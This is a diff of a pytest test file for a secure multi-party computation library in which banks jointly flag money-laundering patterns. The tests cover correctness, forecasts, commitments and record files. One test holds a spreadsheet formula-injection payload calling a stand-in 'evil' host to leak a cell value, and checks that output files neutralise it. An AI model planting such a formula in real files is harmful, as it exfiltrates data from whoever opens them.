@@ -15,6 +15,7 @@ from typing import Any
 import numpy as np
 import pytest
 
+from secagg import release
 from secagg.cost.network import LAN, WAN
 from secagg.errors import (
     AbortedError,
@@ -29,27 +30,29 @@ from secagg.errors import (
     SecaggError,
     UsageError,
 )
-from secagg.jobs.disclosure import disclosures
-from secagg.jobs.forecast import forecast
+from secagg.jobs.forecast import expected_seconds, forecast
 from secagg.jobs.job import Job, Member, Window
 from secagg.jobs.local import free_addresses
 from secagg.jobs.output import Output
-from secagg.jobs.patterns import PATTERNS
-from secagg.jobs.record import Result, write_record
+from secagg.jobs.record import PartyResult, write_record
 from secagg.jobs.record import _error as failure
-from secagg.jobs.run import PHASES, Part, Progress, run_job
+from secagg.jobs.rules import disclosures
+from secagg.jobs.run import Part, Progress, phases, run_job
 from secagg.jobs.signed import file_digest, read_record, verify_record, with_private_part
 from secagg.jobs.spreadsheet import text_of
 from secagg.network.identity import Identity, create_identity
 from secagg.network.simulated import Outcome, simulate
 from secagg.network.tcp import Timeouts
 from secagg.party import UNKNOWN, aborted
-from secagg.patterns.banking import collectors, structuring
+from secagg.patterns.banking import COLLECTORS, STRUCTURING
+from secagg.patterns.group_by import GroupByPattern
+from secagg.patterns.pattern import Result, Tables
+from secagg.patterns.registry import find
 from secagg.protocols import group_by
-from secagg.protocols.group_by import Findings, Rows, flagged_rows
+from secagg.protocols.group_by import Rows
 from secagg.protocols.pseudonyms import digest_of_contribution
 
-MODULES: dict[str, Any] = {"collectors": collectors, "structuring": structuring}
+PATTERNS: dict[str, GroupByPattern] = {"collectors": COLLECTORS, "structuring": STRUCTURING}
 SMALL = {
     "collectors": {"min_senders": 3, "min_banks": 2, "min_total_cents": 50_000},
     "structuring": {"limit_cents": 100_000},
@@ -60,26 +63,24 @@ LAYOUTS = {
     "five banks, three outsiders compute": ("abcde", "xyz"),
     "five banks, three of them compute": ("abcde", "bde"),
 }
-Columns = tuple[Any, ...]
 
 
 def make_job(pattern: str, layout: str = "three banks compute", **parameters: int) -> Job:
     inputs, computing = (tuple(f"bank_{letter}" for letter in part) for part in LAYOUTS[layout])
-    module = PATTERNS[pattern]
+    installed = find(pattern)
     return Job(
         name="test",
-        pattern=module,
-        parameters=module.parameters(**{**SMALL[pattern], **parameters}),
+        installed=installed,
+        parameters=installed.pattern.Parameters(**{**SMALL[pattern], **parameters}),
         window=Window(),
         members=tuple(Member(name, ("127.0.0.1", 1), None) for name in dict.fromkeys((*inputs, *computing))),
-        input_parties=inputs,
-        computing_parties=(computing[0], computing[1], computing[2]),
-        round_rows_to=1,
+        roles={"input": inputs, "computing": computing},
+        pad_rows_to=1,
         timeouts=Timeouts(connect_s=20, silence_s=10, message_s=20),
     )
 
 
-def make_table(pattern: str, seed: int, rows: int, names: int = 40) -> Columns:
+def make_table(pattern: str, seed: int, rows: int, names: int = 40) -> Tables:
     rng = np.random.default_rng(seed)
 
     def some(prefix: str, count: int) -> Any:
@@ -88,18 +89,24 @@ def make_table(pattern: str, seed: int, rows: int, names: int = 40) -> Columns:
         return drawn
 
     if pattern == "collectors":
-        return some("ACC", names), some(f"CUSTOMER{seed}", 30), rng.integers(1, 40_000, rows)
-    return some("PERSON", names), rng.integers(1, 60_000, rows)
+        accounts = {"beneficiary": some("ACC", names), "sender": some(f"CUSTOMER{seed}", 30)}
+        return {"transfers": {**accounts, "amount": rng.integers(1, 40_000, rows)}}
+    return {"deposits": {"customer": some("PERSON", names), "amount": rng.integers(1, 60_000, rows)}}
 
 
-def make_tables(job: Job, rows: Sequence[int]) -> dict[str, Columns]:
+def identifiers(tables: Tables) -> set[str]:
+    (table,) = tables.values()
+    return set(next(iter(table.values())))
+
+
+def make_tables(job: Job, rows: Sequence[int]) -> dict[str, Tables]:
     return {
         name: make_table(job.pattern.name, seed, n)
         for seed, (name, n) in enumerate(zip(job.input_parties, rows, strict=True))
     }
 
 
-def simulate_job(job: Job, tables: dict[str, Columns]) -> tuple[dict[str, Part], Outcome[Findings | None]]:
+def simulate_job(job: Job, tables: dict[str, Tables]) -> tuple[dict[str, Part], Outcome[Result | None]]:
     parts = {
         name: Part(job, name, partial(tables.__getitem__, name) if name in tables else None)
         for name in job.roster
@@ -107,18 +114,18 @@ def simulate_job(job: Job, tables: dict[str, Columns]) -> tuple[dict[str, Part],
     return parts, simulate(parts)
 
 
-def check_equal_to_plaintext(job: Job, tables: dict[str, Columns], told: dict[str, list[Any]]) -> int:
-    """Compare what each input party was told with the plaintext twin; return how much there was to find."""
-    pooled = MODULES[job.pattern.name].find_plainly(job.parameters, list(tables.values()))
-    for name, columns in tables.items():
-        mine = set(columns[0].tolist())
-        expected = {(n, *sums) for n, sums in pooled.items() if n in mine}
+def check_equal_to_plaintext(job: Job, tables: dict[str, Tables], told: dict[str, list[Any]]) -> int:
+    """Compare what each input party was told with the reference in the clear; return how much there was to find."""
+    pooled = PATTERNS[job.pattern.name].flagged(job.parameters, tables)
+    for name, own in tables.items():
+        expected = {(n, *sums) for n, sums in pooled.items() if n in identifiers(own)}
         assert set(told[name]) == expected
         assert len(told[name]) == len(expected)
+    assert told == job.pattern.reference(job.parameters, job.terms, tables)
     return len(pooled)
 
 
-@pytest.mark.parametrize("pattern", MODULES)
+@pytest.mark.parametrize("pattern", PATTERNS)
 @pytest.mark.parametrize("layout", LAYOUTS)
 @pytest.mark.parametrize("sizes", [(120, 90, 60, 40, 20), (150, 0, 150, 1, 30), (0, 1, 0, 0, 0)])
 def test_every_bank_is_told_what_the_plaintext_says_about_its_rows(
@@ -130,38 +137,38 @@ def test_every_bank_is_told_what_the_plaintext_says_about_its_rows(
     outcome.values()
     told = {}
     for name in job.roster:
-        rows, findings = parts[name].rows, outcome.results[name]
-        assert (rows is None) == (findings is None) == (name not in job.input_parties)
-        if rows is not None and findings is not None:
-            told[name] = flagged_rows(rows, findings)
+        contribution, result = parts[name].contribution, outcome.results[name]
+        assert (contribution is None) == (result is None) == (name not in job.input_parties)
+        if result is not None:
+            told[name] = list(result)
     found = check_equal_to_plaintext(job, tables, told)
     assert found > 0 or min(sizes) < 20  # the first sizes leave something to find
 
 
-@pytest.mark.parametrize("pattern", MODULES)
+@pytest.mark.parametrize("pattern", PATTERNS)
 @pytest.mark.parametrize("layout", LAYOUTS)
 def test_the_forecast_is_what_the_ledgers_show(pattern: str, layout: str) -> None:
     job = make_job(pattern, layout)
     parts, outcome = simulate_job(job, make_tables(job, (300, 100, 0, 1, 50)[: len(job.input_parties)]))
     outcome.values()
-    counts = {name: len(parts[name].rows.identifiers) for name in job.input_parties}  # type: ignore[union-attr]
+    counts = {name: part.contribution.rows for name, part in parts.items() if part.contribution is not None}
     expected = forecast(job, counts)
     for name in job.roster:
         assert parts[name].counts == counts
         assert parts[name].forecast == expected
-        assert outcome.ledgers[name].total().sent.payload_bytes == expected.sent_bytes[name]
+        assert outcome.ledgers[name].total().sent.payload_bytes == expected.payload_bytes[name]
     assert max(ledger.total().rounds for ledger in outcome.ledgers.values()) == expected.rounds
 
 
 def test_a_forecast_takes_longer_on_a_slower_network_and_with_more_rows() -> None:
     job = make_job("collectors")
     few, many = (forecast(job, dict.fromkeys(job.input_parties, n)) for n in (1000, 100_000))
-    assert few.seconds(LAN) < few.seconds(WAN) < many.seconds(WAN)
-    assert few.seconds(WAN) > few.rounds * WAN.latency_s
+    assert expected_seconds(few, LAN) < expected_seconds(few, WAN) < expected_seconds(many, WAN)
+    assert expected_seconds(few, WAN) > few.rounds * WAN.latency_s
 
 
 def test_row_counts_are_announced_rounded_up_as_agreed() -> None:
-    job = replace(make_job("structuring"), round_rows_to=50)
+    job = replace(make_job("structuring"), pad_rows_to=50)
     parts, outcome = simulate_job(job, make_tables(job, (120, 0, 5)))
     outcome.values()
     assert parts["bank_a"].counts == {"bank_a": 50, "bank_b": 0, "bank_c": 50}
@@ -185,7 +192,7 @@ def test_a_bank_cannot_announce_one_number_of_rows_and_put_in_another(told: int)
 
     async def hostile(party: Any) -> Any:
         announced = group_by.announcement
-        rows = collectors.rows(job.parameters, *tables["bank_b"])
+        rows = COLLECTORS.group_rows(job.parameters, tables["bank_b"])
         salt, contribution = party.rng.bytes(32), party.rng.bytes(32)
         mine = announced.Announcement(
             told,
@@ -209,14 +216,14 @@ def test_a_bank_cannot_announce_one_number_of_rows_and_put_in_another(told: int)
             salt,
             contribution,
         )
-        return await group_by.find_announced(party, job.query, everything)
+        return await group_by.find_announced(party, COLLECTORS.query(job.parameters, job.terms), everything)
 
     parts: dict[str, Any] = {
         "bank_a": Part(job, "bank_a", lambda: tables["bank_a"]), "bank_x": Part(job, "bank_x", None),
     }  # fmt: skip
     outcome = simulate({"bank_a": parts["bank_a"], "bank_b": hostile, "bank_x": parts["bank_x"]})
     assert not outcome.results
-    known = {"bank_a": len(set(tables["bank_a"][0])), "bank_b": told} if 0 <= told < 10**7 else {}
+    known = {"bank_a": len(identifiers(tables["bank_a"])), "bank_b": told} if 0 <= told < 10**7 else {}
     for name, part in parts.items():
         assert part.counts == known
         assert getattr(outcome.errors[name], "peer", None) == "bank_b", outcome.errors[name]
@@ -230,38 +237,44 @@ def test_an_auditor_recomputes_the_commitment_from_the_table_in_any_order() -> N
     tables = make_tables(job, (50, 60, 70))
     parts, outcome = simulate_job(job, tables)
     outcome.values()
-    commitments = {name: part.announced.commitments for name, part in parts.items() if part.announced}
+    announced = {name: part.agreed.state for name, part in parts.items() if part.agreed is not None}
+    commitments = {name: each.commitments for name, each in announced.items()}
     assert len(commitments) == 3
     assert all(each == commitments["bank_a"] for each in commitments.values())
-    for name, columns in tables.items():
-        order = np.random.default_rng(1).permutation(len(columns[0]))
-        rows = job.pattern.rows(job.parameters, *(column[order] for column in columns)).by_identifier()
-        announced = parts[name].announced
-        assert announced is not None
+    for name, own in tables.items():
+        columns = own["transfers"]
+        order = np.random.default_rng(1).permutation(len(columns["amount"]))
+        shuffled = {"transfers": {role: column[order] for role, column in columns.items()}}
+        rows = COLLECTORS.group_rows(job.parameters, shuffled).by_identifier()
+        salt = announced[name].salt
         about: dict[str, Any] = {"session": parts[name].session, "owner": name}
-        assert group_by.commitment(rows, announced.salt, **about) == commitments["bank_a"][name]
+        assert group_by.commitment(rows, salt, **about) == commitments["bank_a"][name]
         changed = Rows(rows.identifiers, rows.values + np.eye(*rows.values.shape, dtype=np.uint64))
-        assert group_by.commitment(changed, announced.salt, **about) != commitments["bank_a"][name]
+        assert group_by.commitment(changed, salt, **about) != commitments["bank_a"][name]
 
 
 def test_amounts_with_cents_up_to_a_billion_add_up_exactly() -> None:
     job = make_job("collectors", min_senders=1)
-    tables: dict[str, Columns] = {
-        name: (np.array(["x", "y"], object), np.array(["s", "t"], object), np.array([10**11 - 1, i]))
+    tables: dict[str, Tables] = {
+        name: {
+            "transfers": {
+                "beneficiary": np.array(["x", "y"], object),
+                "sender": np.array(["s", "t"], object),
+                "amount": np.array([10**11 - 1, i]),
+            }
+        }
         for i, name in enumerate(job.input_parties)
     }
-    parts, outcome = simulate_job(job, tables)
-    rows, findings = parts["bank_b"].rows, outcome.values()[1]
-    assert rows is not None
-    assert findings is not None
-    assert flagged_rows(rows, findings) == [("x", 3, 3 * 10**11 - 3)]
+    _, outcome = simulate_job(job, tables)
+    outcome.values()
+    assert outcome.results["bank_b"] == [("x", 3, 3 * 10**11 - 3)]
 
 
 def test_all_are_told_whose_table_has_no_row_that_counts_and_nothing_more() -> None:
     job = make_job("collectors")
     tables = make_tables(job, (10, 10, 10))
 
-    def read() -> Columns:
+    def read() -> Tables:
         raise EmptyTableError("secret.csv: no row counts; the table's times run from 1 to 2")
 
     parts = {name: Part(job, name, partial(tables.__getitem__, name)) for name in job.roster}
@@ -277,7 +290,7 @@ def test_data_that_cannot_be_used_ends_the_run_and_only_its_owner_learns_why() -
     job = make_job("collectors")
     tables = make_tables(job, (10, 10, 10))
 
-    def read() -> Columns:
+    def read() -> Tables:
         raise DataError("secret.csv:7: amount is negative")
 
     parts = {name: Part(job, name, partial(tables.__getitem__, name)) for name in job.roster}
@@ -292,7 +305,7 @@ def test_data_that_cannot_be_used_ends_the_run_and_only_its_owner_learns_why() -
 
 
 def test_values_above_what_was_agreed_are_refused_without_telling_the_others_how_many() -> None:
-    job = make_job("collectors", most_senders_per_bank=3)
+    job = make_job("collectors", max_senders_per_bank=3)
     _, outcome = simulate_job(job, make_tables(job, (10, 200, 10)))
     assert isinstance(outcome.errors["bank_b"], RangeError)
     assert isinstance(outcome.errors["bank_a"], AbortedError)
@@ -304,7 +317,7 @@ def test_data_comes_from_input_parties_and_from_nobody_else() -> None:
     with pytest.raises(UsageError, match="bank_a gives none"):
         Part(job, "bank_a", None)
     with pytest.raises(UsageError, match="bank_x gives some"):
-        Part(job, "bank_x", lambda: ())
+        Part(job, "bank_x", dict)
     with pytest.raises(UsageError, match="bank_q takes no part"):
         Part(job, "bank_q", None)
 
@@ -356,25 +369,28 @@ def test_a_run_over_tls_leaves_results_and_records(tmp_path: Path) -> None:
         assert stat.S_IMODE(private.stat().st_mode) == 0o600
         assert shared["private"] == {"file": private.name, "sha256": file_digest(private)}
         assert len(bytes.fromhex(json.loads(private.read_text())["salt"])) == 32
-        assert not {"commitment_salt", "flagged", "table", "result", "salt"} & shared.keys()
+        assert not {"openings", "result_rows", "tables", "result", "salt"} & shared.keys()
         if table is not None:  # a guess of the table cannot be tested with what is shared
             assert file_digest(table) not in record_file.read_text()
         record = with_private_part(shared, record_file)
-        assert (record["outcome"], record["reached"], record["error"]) == ("complete", PHASES[-1], None)
+        assert (record["outcome"], record["reached"], record["error"]) == ("complete", "open", None)
         assert record_file.name == f"{name}.test.json"
         assert record["digest"] == job.digest.hex()
         assert record["session"] == json.loads(json.dumps(results["bank_x"].record))["session"]
         assert record["parameters"]["min_total"] == "500.00"
-        assert record["announced_rows"] == {bank: len(set(tables[bank][0])) for bank in tables}
+        assert record["announced_rows"] == {bank: len(identifiers(tables[bank])) for bank in tables}
         assert record["max_rows"] == 10_000_000
+        origin = {"distribution": "secagg", "version": release.RELEASE, "module_sha256": ""}
+        assert record["pattern"] == {"name": "collectors", **origin}
+        assert record["risks"].keys() == {"log2_false_match", "log2_abort"}
         if name in tables:
-            rows = job.pattern.rows(job.parameters, *tables[name]).by_identifier()
-            salt, session = (bytes.fromhex(record[key]) for key in ("commitment_salt", "session"))
+            rows = COLLECTORS.group_rows(job.parameters, tables[name]).by_identifier()
+            salt, session = map(bytes.fromhex, (record["openings"]["commitment_salt"], record["session"]))
             committed = group_by.commitment(rows, salt, session=session, owner=name)
             for bank in job.roster:
-                assert results[bank].record["commitments"][name] == committed.hex()
+                assert results[bank].record["agreed"]["commitments"][name] == committed.hex()
         else:
-            assert record["commitment_salt"] is None
+            assert record["openings"] == {}
         assert record["versions"]["numpy"] == np.__version__
         assert set(record["ledger"]["phases"]) >= {"read", "agree"}
         assert [p["name"] for p in record["parties"]] == list(job.roster)
@@ -383,15 +399,15 @@ def test_a_run_over_tls_leaves_results_and_records(tmp_path: Path) -> None:
         assert "CUSTOMER" not in text
         if name not in tables:
             assert table is None
-            assert record["flagged"] is None
+            assert record["result_rows"] is None
             continue
         assert table is not None
         assert stat.S_IMODE(table.stat().st_mode) == 0o600
         assert record["result"] == {"file": table.name, "sha256": file_digest(table)}
-        assert record["flagged"] == len(results[name].rows)
+        assert record["result_rows"] == len(results[name].rows)
         with table.open(newline="") as file:
             head, *lines = list(csv.reader(file))
-        assert tuple(head) == job.pattern.result_columns
+        assert head == list(job.pattern.results)
         assert [(n, int(s), round(float(t) * 100)) for n, s, t in lines] == list(results[name].rows)
         assert all(t[-3] == "." for *_, t in lines)
         # No joint total either, as cents or as units.
@@ -404,10 +420,10 @@ def test_a_run_over_tls_leaves_results_and_records(tmp_path: Path) -> None:
         "bank_x.test.json", "bank_x.test.private.json",
     ]  # fmt: skip
 
-    phases = [PHASES.index(progress.phase) for progress in seen]
+    reached = [phases(job).index(progress.phase) for progress in seen]
     shares = [progress.share for progress in seen]
-    assert phases[0] == 0
-    assert phases == sorted(phases)
+    assert reached[0] == 0
+    assert reached == sorted(reached)
     assert shares == sorted(shares)
     assert 0.9 < shares[-1] <= 1
     assert seen[0].waiting_for == ("bank_b", "bank_x")
@@ -417,7 +433,7 @@ def test_identifiers_that_are_formulas_are_written_so_that_no_spreadsheet_runs_t
     job, identities = settle(make_job("structuring"))
     rows = [('=HYPERLINK("http://evil/?"&B2,"open")', 2, 150_000), ("-5", 3, 7)]
     output = Output.probe(tmp_path, me="bank_a", job="test")
-    table, _ = Result("bank_a", job, rows, {}).write(output, identities["bank_a"])
+    table, _ = PartyResult("bank_a", job, rows, {}).write(output, identities["bank_a"])
     assert table is not None
     lines = list(csv.reader(table.read_text().splitlines()))
     assert lines[1:] == [["'" + rows[0][0], "2", "1500.00"], ["-5", "3", "0.07"]]
@@ -434,7 +450,7 @@ def refused(
     readers: list[str] = []
 
     def take_part(name: str) -> Any:
-        def read() -> Columns:
+        def read() -> Tables:
             readers.append(name)
             return tables[name]
 
@@ -448,7 +464,7 @@ def test_a_job_that_differs_at_one_party_is_refused_before_anybody_reads_data() 
     def change(job: Job, name: str) -> Job:
         if name != "bank_c":
             return job
-        return replace(job, parameters=job.pattern.parameters(**{**SMALL["collectors"], "min_senders": 2}))
+        return replace(job, parameters=job.pattern.Parameters(**{**SMALL["collectors"], "min_senders": 2}))
 
     errors, readers = refused(change)
     assert readers == []
@@ -517,7 +533,7 @@ def test_who_gives_up_waiting_ends_nobody_elses_wait_and_may_come_again() -> Non
 
     def take_part(name: str, wait_s: float | None = None) -> Any:
         def seen(progress: Progress) -> None:
-            if name == "bank_a" and progress.phase == PHASES[0]:
+            if name == "bank_a" and progress.phase == "connect":
                 there.append(set(progress.present))
 
         read = (lambda: tables[name]) if name in tables else None
@@ -542,7 +558,7 @@ def test_a_run_that_fails_leaves_a_record_of_how_far_it_came_and_who_is_named(tm
     tables = make_tables(job, (20, 20))
     records: dict[str, dict[str, Any]] = {}
 
-    def read(name: str) -> Columns:
+    def read(name: str) -> Tables:
         if name == "bank_b":
             raise DataError("secret.csv:7: amount is negative")
         return tables[name]
